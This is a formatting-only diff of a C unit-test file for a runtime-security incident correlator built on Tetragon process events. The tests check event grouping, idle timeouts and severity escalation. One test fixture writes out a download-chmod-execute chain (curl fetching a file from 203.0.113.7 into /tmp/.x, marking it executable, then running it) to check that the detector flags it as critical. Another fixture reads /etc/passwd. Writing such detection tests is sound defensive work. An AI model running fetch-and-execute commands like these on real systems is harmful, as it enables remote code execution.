@@ -17,22 +17,26 @@ static pj_arena *arena;
 
 typedef struct proc {
     const char *id, *parent, *pod, *binary, *args;
-    int init;   /* PID 1 of its container */
+    int init; /* PID 1 of its container */
 } proc;
 
-static void put_proc(char *out, size_t cap, const proc *p) {
-    snprintf(out, cap,
-             "{\"exec_id\":\"%s\",\"binary\":\"%s\",\"arguments\":\"%s\",\"parent_exec_id\":\"%s\","
-             "\"pod\":{\"namespace\":\"shop\",\"name\":\"%s\",\"container\":{\"name\":\"app\",\"pid\":%d},"
-             "\"workload\":\"web\"}}",
-             p->id, p->binary, p->args, p->parent, p->pod, p->init ? 1 : 40);
+static void put_proc(char *out, size_t cap, const proc *p)
+{
+    snprintf(
+        out, cap,
+        "{\"exec_id\":\"%s\",\"binary\":\"%s\",\"arguments\":\"%s\",\"parent_exec_id\":\"%s\","
+        "\"pod\":{\"namespace\":\"shop\",\"name\":\"%s\",\"container\":{\"name\":\"app\",\"pid\":%d},"
+        "\"workload\":\"web\"}}",
+        p->id, p->binary, p->args, p->parent, p->pod, p->init ? 1 : 40);
 }
 
 /* One event of kind for p (parent pp), at second t. */
-static tetra_event *mk(const char *kind, const proc *p, const proc *pp, int t, const char *extra) {
+static tetra_event *mk(const char *kind, const proc *p, const proc *pp, int t, const char *extra)
+{
     char pj[1024], ppj[1024] = "null", json[4096];
     put_proc(pj, sizeof pj, p);
-    if (pp) put_proc(ppj, sizeof ppj, pp);
+    if (pp)
+        put_proc(ppj, sizeof ppj, pp);
     snprintf(json, sizeof json,
              "{\"%s\":{\"process\":%s,\"parent\":%s%s},\"node_name\":\"node-1\","
              "\"time\":\"2026-11-26T10:%02d:%02d.000000001Z\"}",
@@ -40,12 +44,13 @@ static tetra_event *mk(const char *kind, const proc *p, const proc *pp, int t, c
     tetra_event *ev = NULL;
     const char *reason;
     pj_error perr;
-    ck_assert_msg(event_from_json(arena, json, strlen(json), &ev, &reason, &perr, NULL) == 0, "%s: %s",
-                  reason, perr.msg);
+    ck_assert_msg(event_from_json(arena, json, strlen(json), &ev, &reason, &perr, NULL) == 0,
+                  "%s: %s", reason, perr.msg);
     return ev;
 }
 
-static Tetragonsidekick__Enrichment en_of(int sev, char **rules) {
+static Tetragonsidekick__Enrichment en_of(int sev, char **rules)
+{
     Tetragonsidekick__Enrichment en;
     tetragonsidekick__enrichment__init(&en);
     en.severity = (Tetragonsidekick__Severity)sev;
@@ -55,7 +60,8 @@ static Tetragonsidekick__Enrichment en_of(int sev, char **rules) {
     return en;
 }
 
-static void feed(incidents *s, int32_t lane, tetra_event *ev, int sev) {
+static void feed(incidents *s, int32_t lane, tetra_event *ev, int sev)
+{
     char *names[] = {sev > SEV_INFO ? "test-rule" : NULL};
     Tetragonsidekick__Enrichment en = en_of(sev, names);
     ck_assert_int_eq(inc_feed(s, lane, ev, &en), 0);
@@ -63,24 +69,33 @@ static void feed(incidents *s, int32_t lane, tetra_event *ev, int sev) {
 
 static seqset seqs;
 
-static incidents *fresh(size_t max_events) {
-    inc_conf c = {.min_severity = SEV_LOW, .idle_ms = 60000, .max_ms = 900000, .max_events = max_events,
-                  .lineage_cap = 1000, .grace_ms = 120000};
+static incidents *fresh(size_t max_events)
+{
+    inc_conf c = {.min_severity = SEV_LOW,
+                  .idle_ms = 60000,
+                  .max_ms = 900000,
+                  .max_events = max_events,
+                  .lineage_cap = 1000,
+                  .grace_ms = 120000};
     incidents *s = inc_new(&c, &seqs);
     ck_assert_ptr_nonnull(s);
     return s;
 }
 
 /* Drain the change queue; returns how many distinct incidents were on it. */
-static int drain(incidents *s, incident **last) {
+static int drain(incidents *s, incident **last)
+{
     int n = 0;
     incident *in;
     const incident *seen[16];
     while ((in = inc_next(s)) != NULL) {
         int dup = 0;
-        for (int i = 0; i < n; i++) dup |= seen[i] == in;
-        if (!dup && n < 16) seen[n++] = in;
-        if (last) *last = in;
+        for (int i = 0; i < n; i++)
+            dup |= seen[i] == in;
+        if (!dup && n < 16)
+            seen[n++] = in;
+        if (last)
+            *last = in;
     }
     return n;
 }
@@ -97,7 +112,7 @@ START_TEST(shell_and_children_in_one)
     incident *in = NULL;
     feed(s, 0, mk("process_exec", &APP, &INIT, 0, NULL), SEV_INFO);
     feed(s, 0, mk("process_exec", &SH1, &APP, 1, NULL), SEV_MEDIUM);
-    feed(s, 0, mk("process_exec", &CURL, &SH1, 2, NULL), SEV_INFO);      /* quiet child: joins */
+    feed(s, 0, mk("process_exec", &CURL, &SH1, 2, NULL), SEV_INFO); /* quiet child: joins */
     feed(s, 0, mk("process_exit", &CURL, &SH1, 3, NULL), SEV_INFO);
     ck_assert_int_eq(drain(s, &in), 1);
     ck_assert_uint_eq(in->count, 3);
@@ -131,7 +146,8 @@ START_TEST(shared_suspicious_ancestor_joins)
     incidents *s = fresh(100);
     incident *in = NULL;
     feed(s, 0, mk("process_exec", &APP, &INIT, 0, NULL), SEV_INFO);
-    feed(s, 0, mk("process_exec", &PY, &APP, 1, NULL), SEV_INFO);   /* not init's child: no boundary */
+    feed(s, 0, mk("process_exec", &PY, &APP, 1, NULL),
+         SEV_INFO); /* not init's child: no boundary */
     feed(s, 0, mk("process_exec", &A, &PY, 2, NULL), SEV_HIGH);
     feed(s, 0, mk("process_exec", &B, &PY, 3, NULL), SEV_MEDIUM);
     ck_assert_int_eq(drain(s, &in), 1);
@@ -150,9 +166,9 @@ START_TEST(closes_on_event_time)
     feed(s, 0, mk("process_exec", &APP, &INIT, 0, NULL), SEV_INFO);
     feed(s, 0, mk("process_exec", &SH1, &APP, 10, NULL), SEV_MEDIUM);
     drain(s, &in);
-    feed(s, 0, mk("process_exec", &OTHER, &INIT, 69, NULL), SEV_INFO);   /* 59 s idle: still open */
+    feed(s, 0, mk("process_exec", &OTHER, &INIT, 69, NULL), SEV_INFO); /* 59 s idle: still open */
     ck_assert_ptr_null(inc_next(s));
-    feed(s, 0, mk("process_exit", &OTHER, &INIT, 71, NULL), SEV_INFO);   /* 61 s: closed */
+    feed(s, 0, mk("process_exit", &OTHER, &INIT, 71, NULL), SEV_INFO); /* 61 s: closed */
     ck_assert_ptr_eq(inc_next(s), in);
     ck_assert_int_eq(in->status, INC_CLOSED);
     ck_assert_uint_eq(inc_open_count(s), 0);
@@ -161,7 +177,8 @@ START_TEST(closes_on_event_time)
 }
 END_TEST
 
-static void ids_of(const char *pod, char *id, size_t cap) {
+static void ids_of(const char *pod, char *id, size_t cap)
+{
     proc app = APP, sh = SH1, init = INIT;
     app.pod = sh.pod = init.pod = pod;
     incidents *s = fresh(100);
@@ -193,9 +210,11 @@ START_TEST(timeline_capped_and_record)
     feed(s, 0, mk("process_exec", &APP, &INIT, 0, NULL), SEV_INFO);
     feed(s, 0, mk("process_exec", &SH1, &APP, 1, NULL), SEV_MEDIUM);
     for (int i = 0; i < 4; i++)
-        feed(s, 0, mk("process_kprobe", &SH1, &APP, 2 + i,
-                      ",\"function_name\":\"fd_install\",\"args\":[{\"file_arg\":{\"path\":\"/etc/passwd\"}}]"),
-             SEV_INFO);
+        feed(
+            s, 0,
+            mk("process_kprobe", &SH1, &APP, 2 + i,
+               ",\"function_name\":\"fd_install\",\"args\":[{\"file_arg\":{\"path\":\"/etc/passwd\"}}]"),
+            SEV_INFO);
     drain(s, &in);
     ck_assert_uint_eq(in->count, 5);
     ck_assert_uint_eq(in->nev, 3);
@@ -250,7 +269,8 @@ END_TEST
 
 START_TEST(sequence_raises_severity)
 {
-    static const proc DL = {"dl", "sh1", "web-1", "/usr/bin/curl", "-o /tmp/.x http://203.0.113.7/x", 0};
+    static const proc DL = {
+        "dl", "sh1", "web-1", "/usr/bin/curl", "-o /tmp/.x http://203.0.113.7/x", 0};
     static const proc CH = {"ch", "sh1", "web-1", "/bin/chmod", "+x /tmp/.x", 0};
     static const proc X = {"x", "sh1", "web-1", "/tmp/.x", "", 0};
     incidents *s = fresh(100);
@@ -265,7 +285,8 @@ START_TEST(sequence_raises_severity)
     ck_assert_str_eq(in->seq[0], "download-chmod-exec");
     ck_assert_int_eq(in->severity, SEV_CRITICAL);
     int found = 0;
-    for (int i = 0; i < in->ntech; i++) found |= strcmp(in->tech[i].id, "T1204.002") == 0;
+    for (int i = 0; i < in->ntech; i++)
+        found |= strcmp(in->tech[i].id, "T1204.002") == 0;
     ck_assert(found);
     char fp[17];
     inc_fingerprint(in, fp);
@@ -274,19 +295,23 @@ START_TEST(sequence_raises_severity)
 }
 END_TEST
 
-static void setup(void) {
+static void setup(void)
+{
     char err[256];
     arena = pj_arena_new();
     memset(&seqs, 0, sizeof seqs);
-    ck_assert(seq_load_builtin(&seqs, err, sizeof err) == 0 && seq_prepare(&seqs, err, sizeof err) == 0);
+    ck_assert(seq_load_builtin(&seqs, err, sizeof err) == 0 &&
+              seq_prepare(&seqs, err, sizeof err) == 0);
 }
 
-static void teardown(void) {
+static void teardown(void)
+{
     pj_arena_free(arena);
     seq_free(&seqs);
 }
 
-static void add_tests(TCase *tc) {
+static void add_tests(TCase *tc)
+{
     tcase_add_checked_fixture(tc, setup, teardown);
     tcase_add_test(tc, shell_and_children_in_one);
     tcase_add_test(tc, app_main_keeps_siblings_apart);
@@ -298,6 +323,7 @@ static void add_tests(TCase *tc) {
     tcase_add_test(tc, sequence_raises_severity);
 }
 
-int main(void) {
+int main(void)
+{
     return check_main("enrich_incident", add_tests);
 }
